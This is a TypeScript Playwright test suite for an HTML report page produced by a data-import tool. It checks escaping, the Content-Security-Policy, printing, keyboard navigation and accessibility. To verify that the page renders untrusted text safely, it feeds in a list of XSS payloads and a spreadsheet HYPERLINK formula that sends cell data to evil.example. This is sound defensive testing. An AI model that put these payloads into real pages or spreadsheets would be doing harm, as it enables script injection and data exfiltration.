import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunMode } from '../../../src/core/outcome.js';
import type { RowReport } from '../../../src/core/report.js';
import { writeHtml } from '../../../src/report/html.js';
import type { ChosenColumns } from '../../../src/report/rows.js';
import type { TimelinePoint } from '../../../src/report/rows.js';
import { browserPath, startBrowser } from '../../kit/browser.js';
import { testFolder } from '../../kit/folder.js';
import { rowReport, runReport } from './rows.js';

const folder = testFolder();
const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

const HOSTILE = [
  '<script>globalThis.hacked = 1</script>',
  '</script><script>globalThis.hacked = 2</script>',
  '<img src=x onerror="globalThis.hacked = 3">',
  '=HYPERLINK("http://evil.example/?" & A1, "x")',
  '"><b>bold</b>&amp;<!--',
];

const failed = (ordinal: number, createResult: string): RowReport =>
  rowReport({
    ordinal,
    row: ordinal + 2,
    identifiers: [5000 - ordinal, createResult],
    outcome: ordinal % 3 === 0 ? 'rejected' : 'failed',
    createdClientId: null,
    createResult,
    enqueueResult: null,
    problems: [{ column: createResult, code: 'bad', message: createResult, value: createResult }],
  });
const ROWS = [
  ...HOSTILE.map((text, at) => failed(at, text)),
  ...Array.from({ length: 245 }, (_, at) => failed(at + 5, 'Too old.')),
  ...Array.from({ length: 300 }, (_, at) => rowReport({ ordinal: at + 250, row: at + 252 })),
];
/** Of each kind. */
const SOME = [...ROWS.slice(0, 12), ...ROWS.slice(250, 253)];
const POINTS: TimelinePoint[] = Array.from({ length: 60 }, (_, second) => ({
  second,
  completedPerSecond: 1 / 60,
  concurrency: 3 + Math.sin(second / 5),
  meanLatency: second % 7 === 0 ? null : 80 + second,
  longestLatency: second % 7 === 0 ? null : 150 + second,
}));

interface Wanted {
  readonly rows?: RowReport[];
  readonly points?: TimelinePoint[] | null;
  readonly max?: number;
  readonly mode?: RunMode;
  readonly chosen?: ChosenColumns;
  readonly run?: Parameters<typeof runReport>[1];
}
const CHANGES = [
  { second: 0.5, concurrency: 8, batchSize: 500, reason: 'answers come as quickly' },
];

interface Violation {
  readonly id: string;
  readonly nodes: readonly { readonly html: string; readonly failureSummary: string }[];
}

describe.skipIf(browserPath === undefined)('the page of a run, in a browser', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await startBrowser();
  });
  afterAll(() => browser.close());

  /** Opens a page from the disk; `asked` has what it loaded, `faults` its errors. */
  async function opened(
    { rows = ROWS, points = POINTS, max = 50_000, mode = 'create', chosen, run }: Wanted = {},
    {
      colorScheme = 'light',
      width = 1300,
    }: { colorScheme?: 'light' | 'dark'; width?: number } = {},
  ) {
    const file = join(folder, `report-${Math.random()}.html`);
    const inputs = ['/data/leads.csv', `/data/${HOSTILE[2]!.replaceAll('/', '')}`];
    const timeline = points && { points, changes: CHANGES, left: 0 };
    const report = {
      ...runReport(rows, { inputs, mode, ...run }),
      timeline: () => Promise.resolve(timeline),
      chosenColumns: () => chosen ?? null,
    };
    await writeHtml(file, report, max);
    const page = await browser.newPage({ colorScheme, viewport: { width, height: 900 } });
    const [asked, faults]: [string[], string[]] = [[], []];
    page.on('request', (request) => asked.push(request.url()));
    page.on('pageerror', (error) => faults.push(error.message));
    page.on('console', (message) => message.type() === 'error' && faults.push(message.text()));
    const url = pathToFileURL(file).href;
    await page.goto(url);
    return { page, asked, faults, url };
  }

  const lines = (page: Page) => page.locator('#table tbody tr');
  const firstCell = (page: Page) => page.locator('#table tbody td').first().textContent();

  describe('of a usual run', () => {
    let shown: Awaited<ReturnType<typeof opened>>;
    beforeAll(async () => {
      shown = await opened();
    });
    afterAll(() => shown.page.close());

    it('opens from the disk, loads nothing else, and draws its charts', async () => {
      expect(await shown.page.locator('.chart canvas').count()).toBe(3);
      expect(shown.faults).toEqual([]);
      expect(shown.asked).toEqual([shown.url]);
    });

    it('counts the rows by outcome, and aligns numbers to the right', async () => {
      const { page } = shown;
      expect(await page.locator('#all-rows').textContent()).toBe('550');
      const cells = await page
        .locator('section[aria-labelledby=outcomes] tbody tr:not(.sum)')
        .allInnerTexts();
      const counts = cells.map((line) => line.split('\t').slice(0, 2));
      expect(counts).toEqual([
        ['enqueued', '300'],
        ['failed', '166'],
        ['rejected', '84'],
      ]);
      const right = await page.evaluate(
        `[...document.querySelectorAll('#table tbody tr:first-child td')].filter((cell) => getComputedStyle(cell).textAlign === 'right').map((cell) => cell.dataset.label)`,
      );
      expect(right).toEqual(['row', 'offerId']);
    });

    it('takes no text for markup, wherever it stands', async () => {
      const { page, faults } = shown;
      expect(await page.evaluate('globalThis.hacked')).toBeUndefined();
      expect(await page.locator('main script, main img, main b, main a').count()).toBe(0);
      const table = await page.locator('#table tbody').innerText();
      const reasons = await page.locator('section[aria-labelledby=reasons]').innerText();
      for (const text of HOSTILE) {
        expect(table).toContain(text);
        expect(reasons).toContain(text);
      }
      expect(faults).toEqual([]);
    });

    it('cuts nothing off, wide or narrow', async () => {
      const { page } = shown;
      for (const width of [1300, 400]) {
        await page.setViewportSize({ width, height: 900 });
        expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(width);
        const cut = await page.evaluate(
          `[...document.querySelectorAll('main *')].filter((each) => each.checkVisibility() && each.getBoundingClientRect().right > innerWidth).map((each) => each.outerHTML.slice(0, 200))`,
        );
        expect([width, cut]).toEqual([width, []]);
      }
      await page.setViewportSize({ width: 1300, height: 900 });
    });

    it('may not talk to anybody', async () => {
      const { page } = shown;
      const outcome = await page.evaluate(
        `fetch('http://127.0.0.1:9/').then(() => 'sent', (error) => error.message)`,
      );
      expect(outcome).toContain('Failed to fetch');
      const policy = page.locator('meta[http-equiv=Content-Security-Policy]');
      expect(await policy.getAttribute('content')).toMatch(
        /^default-src 'none'; script-src 'sha256-[^' ]+'; style-src 'sha256-[^' ]+'; base-uri 'none'; form-action 'none'$/,
      );
      const ran = await page.evaluate(
        `(() => { const own = document.createElement('script'); own.textContent = 'globalThis.added = 1'; document.body.append(own); return globalThis.added; })()`,
      );
      expect(ran).toBeUndefined();
    });
  });

  it('finds, filters, sorts and turns pages by the keyboard alone', async () => {
    const { page } = await opened();
    expect(await lines(page).count()).toBe(100);
    await page.getByLabel('Search').focus();
    await page.keyboard.type('HYPERLINK');
    expect(await page.locator('#count').textContent()).toBe('1 row');
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Delete');
    await page.keyboard.press('Tab');
    await page.keyboard.type('rejected');
    expect(await page.locator('#count').textContent()).toBe('84 rows');
    await page.locator('#outcome').selectOption('');
    await page.getByRole('button', { name: 'offerId' }).focus();
    await page.keyboard.press('Enter');
    expect(await page.locator('th[aria-sort=ascending]').innerText()).toContain('offerId');
    expect(await firstCell(page)).toBe('251');
    await page.keyboard.press('Enter');
    expect(await firstCell(page)).toBe('2');
    await page.getByRole('button', { name: 'Next' }).focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    expect(await page.locator('#page').textContent()).toBe('Page 3 of 3');
    expect(await lines(page).count()).toBe(50);
    await page.close();
  });

  it('says how many rows it holds where there are more, and counts them all', async () => {
    const { page } = await opened({ max: 120 });
    expect(await page.locator('.notice').innerText()).toContain('The first 120 of 250 rows');
    expect(await page.locator('#count').textContent()).toBe('120 rows');
    expect(await page.locator('#all-rows').textContent()).toBe('550');
    await page.close();
  });

  it('prints all rows that are searched for, not those of one page alone', async () => {
    const { page, faults } = await opened();
    // What a browser does when it prints; the page is as before afterwards.
    const printing = async () => {
      await page.evaluate(`
        globalThis.printed = [];
        addEventListener('beforeprint', () => {
          globalThis.printed = [document.querySelectorAll('#table tbody tr').length, document.getElementById('printed').textContent];
        });`);
      const paper = await page.pdf();
      return { printed: await page.evaluate('globalThis.printed'), paper };
    };
    const all = await printing();
    expect(all.printed).toEqual([250, '250 rows']);
    expect(await lines(page).count()).toBe(100);
    expect(await page.locator('#printed').isVisible()).toBe(false);
    await page.locator('#outcome').selectOption('rejected');
    const some = await printing();
    expect(some.printed).toEqual([84, '84 rows']);
    expect(all.paper.length).toBeGreaterThan(some.paper.length);
    expect(faults).toEqual([]);
    await page.close();
  });

  it('prints no more than paper is good for, and says so', async () => {
    const rows = Array.from({ length: 5100 }, (_, at) => failed(at, 'Too old.'));
    const { page } = await opened({ rows });
    await page.evaluate(`dispatchEvent(new Event('beforeprint'))`);
    expect(await lines(page).count()).toBe(5000);
    expect(await page.locator('#printed').textContent()).toBe(
      'The first 5,000 of 5,100 rows are printed; --format csv or xlsx has them all.',
    );
    await page.evaluate(`dispatchEvent(new Event('afterprint'))`);
    expect(await lines(page).count()).toBe(100);
    await page.close();
  });

  it('shows what a comparison found, in columns of its own', async () => {
    const rows = [
      rowReport({
        outcome: 'different',
        inspection: {
          verdict: 'different',
          clientId: 17,
          differences: [{ field: 'fullName', sheet: '<b>A</b>', center: 'B' }],
          application: {
            ...{
              campaignId: 42,
              hasRecall: true,
              status: 'FAILED',
              calledCount: 3,
              nextCall: null,
            },
          },
        },
      }),
      rowReport({ ordinal: 1, row: 3, outcome: 'match' }),
    ];
    const { page, faults } = await opened({ rows, mode: 'reconcile' });
    expect(await page.locator('#outcomes').innerText()).toBe('Verdicts');
    const heads = await page.locator('#table th').allInnerTexts();
    const cells = await page.locator('#table tbody td').allInnerTexts();
    expect(Object.fromEntries(heads.map((name, at) => [name, cells[at]]))).toMatchObject({
      row: '2',
      verdict: 'different',
      clientId: '17',
      applicationStatus: 'FAILED',
      callsMade: '3',
      callback: 'true',
      differences: 'fullName: "<b>A</b>" in the spreadsheet, "B" on the card',
    });
    // Columns that are empty in every row are left out.
    expect(heads).not.toContain('nextCall');
    expect(heads).not.toContain('sheet');
    expect(await lines(page).count()).toBe(1);
    const reasons = await page.locator('section[aria-labelledby=reasons] tbody').innerText();
    expect(reasons).toContain('fullName: The card has another value.');
    // As wide as the sheet between its margins.
    await page.setViewportSize({ width: 1032, height: 700 });
    await page.emulateMedia({ media: 'print' });
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(1032);
    expect(faults).toEqual([]);
    await page.close();
  });

  it('has no charts where there is no record over time, and names no row where all ended well', async () => {
    const { page, faults } = await opened({ rows: [rowReport()], points: null });
    expect(await page.locator('h1').innerText()).toBe('No row needs you: 1 row ended well');
    const text = await page.locator('main').innerText();
    expect(text).not.toContain('Over time');
    expect(text).toContain('There are none.');
    expect(faults).toEqual([]);
    await page.close();
  });

  it('has charts below the rows, of runs of more than ten seconds only', async () => {
    const { page: short } = await opened({ points: POINTS.slice(0, 11) });
    expect(await short.locator('.chart').count()).toBe(0);
    const { page: long } = await opened({ points: POINTS.slice(0, 12) });
    expect(await long.locator('#table ~ .chart, .chart').count()).toBe(3);
    const [rows, charts] = await Promise.all(
      ['#rows', '#over-time'].map((id) => long.locator(id).boundingBox()),
    );
    expect(charts!.y).toBeGreaterThan(rows!.y);
    await Promise.all([short.close(), long.close()]);
  });

  it('begins with how many rows need the person, and the most frequent reason', async () => {
    const budget = {
      column: 'Budget',
      code: 'number',
      message: 'This is not a number. Fill it in.',
    };
    const bad = (at: number, problems: RowReport['problems']) =>
      rowReport({ ordinal: at, row: at + 2, outcome: 'rejected', createResult: null, problems });
    const rows = [
      ...Array.from({ length: 3 }, (_, at) => bad(at, [{ ...budget, value: `${at} k` }])),
      bad(3, [{ column: null, code: 'other', message: 'is wrong', value: null }]),
      rowReport({ ordinal: 4, row: 6, outcome: 'skipped' }),
    ];
    const { page } = await opened({ rows });
    expect(await page.locator('h1').innerText()).toBe(
      '4 rows need you; 3 of them for one reason: Budget is not a number',
    );
    expect(await page.locator('header').innerText()).toContain('rejects');
    const { page: alike } = await opened({ rows: rows.slice(0, 3) });
    expect(await alike.locator('h1').innerText()).toBe(
      '3 rows need you, all for one reason: Budget is not a number',
    );
    const { page: one } = await opened({ rows: rows.slice(0, 1) });
    expect(await one.locator('h1').innerText()).toBe(
      '1 row needs you, for one reason: Budget is not a number',
    );
    await Promise.all([page.close(), alike.close(), one.close()]);
  });

  it('says what the run was: its time here, how long it took, its campaign, and a sandbox', async () => {
    const run = { campaignName: '<i>Autumn</i> leads', isSandbox: true };
    const { page } = await opened({ run });
    const top = await page.locator('header .run').innerText();
    expect(top).toContain('campaign <i>Autumn</i> leads');
    expect(top).toContain('Sandbox');
    expect(top).toContain('1 min 0 s');
    const begun = new Date(Date.UTC(2026, 10, 20, 17, 45));
    expect(top).toContain(`${begun.getHours()}:45:00`);
    const { page: real } = await opened({ run: { waiting: { rows: 1200, withCard: 0 } } });
    expect(await real.locator('header').innerText()).not.toContain('Sandbox');
    expect(await real.locator('header .notice').innerText()).toContain(
      '1,200 rows are yet to be sent',
    );
    await Promise.all([page.close(), real.close()]);
  });

  it('filters the rows by a reason that is clicked, and shows its values beside it', async () => {
    const { page, faults } = await opened();
    const reason = page.getByRole('button', { name: 'Too old.: Too old.' }).first();
    await reason.click();
    const listed = page.locator('section[aria-labelledby=reasons] tr', { has: reason });
    const count = await listed.locator('td').first().innerText();
    expect(await page.locator('#count').textContent()).toBe(`${count} rows`);
    expect(await reason.getAttribute('aria-pressed')).toBe('true');
    const outcomes = await page.locator('#table td[data-label=outcome]').allInnerTexts();
    expect(new Set(outcomes).size).toBe(1);
    await reason.press('Enter');
    expect(await page.locator('#count').textContent()).toBe('250 rows');
    await page.getByLabel('Reason', { exact: true }).selectOption({ index: 1 });
    expect(await page.locator('[data-reason][aria-pressed=true]').count()).toBe(1);
    const values = await page
      .locator('section[aria-labelledby=reasons] td[data-label=values]')
      .allInnerTexts();
    expect(values).toContain('Too old.');
    expect(faults).toEqual([]);
    await page.close();
  });

  it('shows the columns that the mapping chooses in place of the uuid, as texts', async () => {
    const chosen = {
      names: ['Name', '<b>Mobile</b>'],
      cells: ({ row }: RowReport) =>
        Promise.resolve([`Анна ${row}`, row === 2 ? HOSTILE[0]! : null]),
      close: () => Promise.resolve(),
    };
    const { page, faults } = await opened({ chosen });
    const heads = await page.locator('#table th').allInnerTexts();
    expect(heads.slice(0, 5)).toEqual(['row', 'file', 'Name', '<b>Mobile</b>', 'offerId']);
    expect(heads).not.toContain('uuid');
    const cells = await page.locator('#table tbody tr').first().locator('td').allInnerTexts();
    expect(cells.slice(2, 4)).toEqual(['Анна 2', HOSTILE[0]]);
    expect(await page.evaluate('globalThis.hacked')).toBeUndefined();
    const changed = { ...chosen, cells: () => Promise.resolve(null) };
    const { page: other } = await opened({ chosen: changed });
    expect(await other.locator('#table th').allInnerTexts()).toContain('uuid');
    expect(await other.locator('.notice').innerText()).toContain(
      'Name, <b>Mobile</b> are not shown',
    );
    expect(faults).toEqual([]);
    await Promise.all([page.close(), other.close()]);
  });

  it.each([['dark', 1300]] as const)('has no barrier that axe knows, %s, %i px', hasNoBarrier);

  it.each([
    ['light', 1300],
    ['light', 400],
    ['dark', 400],
  ] as const)('has no barrier that axe knows, %s, %i px', { tags: 'depth' }, hasNoBarrier);

  async function hasNoBarrier(colorScheme: 'light' | 'dark', width: number): Promise<void> {
    const { page } = await opened({ rows: SOME }, { colorScheme, width });
    for (const details of await page.locator('summary').all()) await details.click();
    await page.evaluate(axe);
    const { violations } = await page.evaluate<{ violations: Violation[] }>('axe.run()');
    const found = violations.map(({ id, nodes }) => [id, nodes[0]?.html, nodes[0]?.failureSummary]);
    expect(found).toEqual([]);
    const shots = process.env['CARDLINE_SCREENSHOTS'];
    if (shots !== undefined)
      await page.screenshot({
        path: join(shots, `report-${colorScheme}-${width}.png`),
        fullPage: true,
      });
    await page.close();
  }
});
